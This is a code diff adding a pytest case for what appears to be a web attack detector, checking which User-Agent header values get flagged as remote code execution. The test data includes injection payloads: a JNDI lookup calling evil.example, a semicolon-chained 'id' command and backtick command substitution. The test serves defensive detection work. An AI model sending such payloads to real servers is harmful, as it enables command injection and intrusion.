@@ -646,6 +646,26 @@ def test_scanner_agents(engine: Engine, agent: str, attack: bool) -> None:
     assert found == ({"scanner"} if attack else set())
 
 
+@pytest.mark.parametrize(
+    ("agent", "attack"),
+    [
+        ("curl/8.5.0", False),
+        ("Wget/1.21.3 (linux-gnu)", False),
+        ("Apache-HttpClient/4.5.13 (Java/17.0.2)", False),
+        ("Zabbix", False),
+        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0", False),
+        # A client's name first, then anything: the value is no client's.
+        ("Mozilla/5.0 ${jndi:ldap://evil.example/a}", True),
+        ("curl/8.5.0; id", True),
+        ("Mozilla/5.0 (X11; Linux x86_64) `id`", True),
+        ("env --version", True),  # words without versions: a command line
+    ],
+)
+def test_client_agents_are_no_commands(engine: Engine, agent: str, attack: bool) -> None:
+    found = _types(engine, Request("GET", "/", (("User-Agent", agent),)))
+    assert found == ({"rce"} if attack else set())
+
+
 _XFCC = (
     "By=spiffe://cluster.local/ns/default/sa/reviews;Hash=468ed33be74eee6556d90c0149c1309e9ba"
     '61d6425303443c0748a02dd8de688;Subject="";URI=spiffe://cluster.local/ns/default/sa/web'
